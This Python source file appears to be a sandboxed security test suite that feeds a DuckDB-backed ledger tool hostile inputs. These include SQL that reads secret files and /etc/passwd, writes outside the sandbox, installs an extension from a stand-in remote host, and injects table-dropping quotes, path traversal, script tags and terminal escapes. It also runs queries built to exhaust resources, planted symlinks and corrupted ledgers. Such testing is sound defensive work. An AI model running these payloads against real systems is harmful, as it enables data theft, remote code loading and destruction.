"""Ledgers of strangers and hostile SQL: queries read the ledger, and nothing else."""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from studies.hostile.harmless import records
from studies.hostile.registry import case
from studies.hostile.sandbox import Box, Step, unplant


def timed(box: Box, verb: str) -> list[str]:
    """``--timeout 1`` where the verb has that option."""
    import subprocess

    helped = subprocess.run(
        [*box.program, verb, "--help"],
        cwd=box.work,
        env=box._environment(),
        capture_output=True,
        text=True,
        check=False,
    )
    return ["--timeout", "1"] if "--timeout" in helped.stdout else []


def changed(box: Box, *statements: str) -> Path:
    """A ledger as the program makes it, with a stranger's statements run on it."""
    import duckdb

    assert box.template
    ledger = Path(shutil.copy(box.template / "ledger.duckdb", box.out))
    with duckdb.connect(str(ledger)) as connection:
        for statement in statements:
            connection.execute(statement.replace("SECRET", str(box.canary)).replace("MARKER", str(box.marker)))
    return ledger


_QUERIES = {
    "read_text": "select content from read_text('SECRET')",
    "read_blob": "select content from read_blob('SECRET')",
    "read_csv": "from read_csv('SECRET', header=false)",
    "read_json": "from read_json('SECRET')",
    "a file as a table": "from 'SECRET'",
    "glob": "from glob('OUTSIDE/*')",
    "sniff_csv": "from sniff_csv('SECRET')",
    "COPY to a file": "copy (select 1) to 'MARKER'",
    "COPY of a database": "copy from database ledger to memory",
    "EXPORT DATABASE": "export database 'OUTSIDE/planted'",
    "ATTACH": "attach 'MARKER' as other",
    "INSTALL": "install httpfs",
    "LOAD": "load '/usr/lib/hostile.duckdb_extension'",
    "INSTALL from elsewhere": "install hostile from 'http://stranger.example'",
    "SET": "set enable_external_access = true",
    "SET and read": "set enable_external_access = true; select content from read_text('SECRET')",
    "RESET": "reset enable_external_access",
    "PRAGMA": "pragma enable_profiling = 'json'; pragma profiling_output = 'MARKER'; select 1",
    "logging": "call enable_logging(storage = 'file', storage_path = 'OUTSIDE/planted')",
    "a log of queries": "set log_query_path = 'MARKER'",
    "temporary folder": "set temp_directory = 'OUTSIDE/planted'",
    "a secret": "create persistent secret s (type http, bearer_token 'x')",
    "a variable of the system": "select getenv('HOME')",
    "a frame of Python": "from box",
    "DELETE": "delete from base.records",
    "two statements": "select 1; drop view results",
    "a view": "create or replace view results as select 1",
    "a temporary view": "create temp view results as select 1; select * from results",
    "nested 10,000 deep": "select " + "(" * 10_000 + "1" + ")" * 10_000,
    "NUL": "select '\0'",
    "a lone surrogate": "select '\udcff'",
    "an escape": "select '\x1b[2J' as \"\x1b]0;x\x07\"",
}


@case("SQL:", _QUERIES)
def query(box: Box, sql: str) -> Iterator[Step]:
    changed(box)
    text = (
        sql.replace("SECRET", str(box.canary)).replace("MARKER", str(box.marker)).replace("OUTSIDE", str(box.outside))
    )
    (box.out / "query.sql").write_bytes(text.encode(errors="surrogateescape"))
    yield box.do("sql", "--file", box.out / "query.sql", "--ledger", box.out / "ledger.duckdb", *timed(box, "sql"))


_ENDLESS = {
    "a cross join": "select count(*) from range(1000000000) a, range(1000000000) b",
    "recursion": "with recursive t(n) as (select 1 union all select n + 1 from t) select max(n) from t",
    "a text of 8 GB": "select repeat('x', 4000000000) || repeat('y', 4000000000)",
    "rows of 8 GB": "select repeat('x', 1000000) from range(8000)",
    "a list of a billion": "select list_sort(range(1000000000))",
    "a regular expression": "select regexp_matches(repeat('a', 50000000), '(a*)*b')",
    "a sort of a billion": "select * from range(1000000000) order by hash(range) limit 5 offset 900000000",
}


@case("SQL that never ends:", _ENDLESS)
def endless(box: Box, sql: str) -> Iterator[Step]:
    changed(box)
    more = timed(box, "sql")
    # A second on both cores is what it was given, and 4 GB.
    yield box.do("sql", sql, "--ledger", box.out / "ledger.duckdb", *more, seconds=3.5, megabytes=4500)


_OWN: dict[str, tuple[str, ...]] = {
    "a view of theirs": ("create or replace view main.failures as select content as model from read_text('SECRET')",),
    "a new view": ("create view main.hostile as select content from read_text('SECRET')",),
    "a view that reads CSV": ("create or replace view main.failures as select * from read_csv('SECRET', header=false)",),
    "a view over a glob": ("create or replace view main.failures as select file as model from glob('/*')",),
    "a macro of theirs": (
        "create or replace macro main.model_label(a, b) as (select content from read_text('SECRET'))",
    ),
    "a macro for a built-in": (
        "create macro main.format(a, b) as (select content from read_text('SECRET'))",
        "create macro main.round(a, b) as (select content from read_text('SECRET'))",
        "create macro main.coalesce_(a) as 1",
    ),
    "a view that never ends": (
        "create or replace view main.failures as select count(*) as model from range(1000000000) a, range(1000000000) b",
    ),
    "a name with an escape": ('create view main."\x1b[2Jhostile" as select 1 as "\x1b]0;x\x07"',),
    "a name that leads out": ('create view main."../../../../outside/planted" as select 1 as one',),
    "a name with quotes": ('create view main."a"" (x); drop table base_records; --" as select 1 as "b"" text, c"',),
    "a table that leads out": ('create table base."x/../../../../../outside/planted" (a int)',),
    "a comment": ("comment on view main.results is '<script>alert(1)</script>\x1b[2J'",),
    "no view": ("drop view main.results",),
    "a later version": ("update base.version set number = 9999",),
    "a version of null": ("delete from base.version",),
    "another schema": ("drop schema base cascade",),
}  # fmt: skip
_FORMATS = ("csv", "parquet", "sqlite")


@case("a ledger with", {f"{name}, {verb}": (name, verb) for name in _OWN for verb in ("sql", "export", "report")})
def ledger(box: Box, how: tuple[str, str]) -> Iterator[Step]:
    name, verb = how
    changed(box, *_OWN[name])
    path, seconds = box.out / "ledger.duckdb", 3.5 if "never ends" in name else 1.0
    if verb == "sql":
        yield box.do("sql", "select * from failures", "--ledger", path, *timed(box, "sql"), seconds=seconds)
        yield box.do("sql", "--ledger", path, seconds=seconds)
    elif verb == "report":
        yield box.do(
            "report", "--out", box.out / "report.md", "--figures", box.out / "none", "--ledger", path, seconds=seconds
        )
        yield box.do(
            "figures",
            "score",
            "size",
            "--format",
            "png",
            "--out",
            box.out / "figures",
            "--ledger",
            path,
            like="report",
            seconds=seconds + 2,
        )
    else:
        for form in _FORMATS:
            yield box.do("export", box.out / form, "--to", form, "--ledger", path, seconds=seconds)


def _not_a_ledger(content: bytes) -> Callable[[Path], Any]:
    return lambda path: path.write_bytes(content)


def _stub(path: Path) -> None:
    import duckdb

    with duckdb.connect(str(path)) as connection:
        connection.execute(
            "create schema base; create view base.version as select content from read_text('/etc/passwd')"
        )


_WRONG: dict[str, Callable[[Path], Any]] = {
    "empty": _not_a_ledger(b""), "of zeros": _not_a_ledger(bytes(1 << 20)), "of text": _not_a_ledger(b"hello" * 1000),
    "whose header says so alone": _not_a_ledger(bytes(8) + b"DUCK" + bytes(1 << 16)), "whose version is a view": _stub,
}  # fmt: skip


@case("a ledger file", _WRONG)
def wrong(box: Box, make: Callable[[Path], Any]) -> Iterator[Step]:
    path = box.out / "ledger.duckdb"
    make(path)
    yield box.do("sql", "select 1", "--ledger", path, seconds=2)
    yield box.do("ingest", records(box.out / "records"), "--ledger", path, seconds=2)


@case("a damaged ledger", {"in its middle": 0.5, "in its beginning": 0.02, "cut off": None})
def damaged(box: Box, place: float | None) -> Iterator[Step]:
    changed(box)
    path = box.out / "ledger.duckdb"
    content = bytearray(path.read_bytes())
    if place is None:
        del content[len(content) // 2 :]
    else:
        begin = int(len(content) * place)
        content[begin : begin + 8192] = b"\xa5" * 8192
    path.write_bytes(content)
    yield box.do("sql", "select * from results", "--ledger", path)
    yield box.do("export", box.out / "tables", "--to", "csv", "--ledger", path)


@case("a link in the ledger's folder", {"logs": "logs", "records": "records", "the lock": ".ledger.duckdb.lock"})
def planted(box: Box, name: str) -> Iterator[Step]:
    from studies.hostile.harmless import MANIFEST

    box.model()
    box.may_open = name == "records"
    (box.input / "tiny.yaml").write_text(MANIFEST)
    target = box.kept if name.endswith("lock") else box.outside / "folder"
    if target != box.kept:
        target.mkdir()
    (box.out / name).symlink_to(target)
    yield box.do("run", box.input / "tiny.yaml", "--ledger", box.out / "ledger.duckdb")
    unplant(box.out / name)


@case("links in the logs of a ledger")
def planted_logs(box: Box) -> Iterator[Step]:
    """The names of a job's files can be foreseen: a run first tells them."""
    from studies.hostile.harmless import MANIFEST

    box.model()
    (box.input / "tiny.yaml").write_text(MANIFEST)
    first, second = box.out / "first/ledger.duckdb", box.out / "second/ledger.duckdb"
    yield box.do("run", box.input / "tiny.yaml", "--ledger", first)
    (second.parent / "logs").mkdir(parents=True)
    for log in (first.parent / "logs").iterdir():
        for name in {log.name, f"{log.stem}.job", f"{log.stem}.log"}:
            if not (second.parent / "logs" / name).is_symlink():
                (second.parent / "logs" / name).symlink_to(box.kept)
    yield box.do("run", box.input / "tiny.yaml", "--ledger", second)
    unplant(*(second.parent / "logs").iterdir())
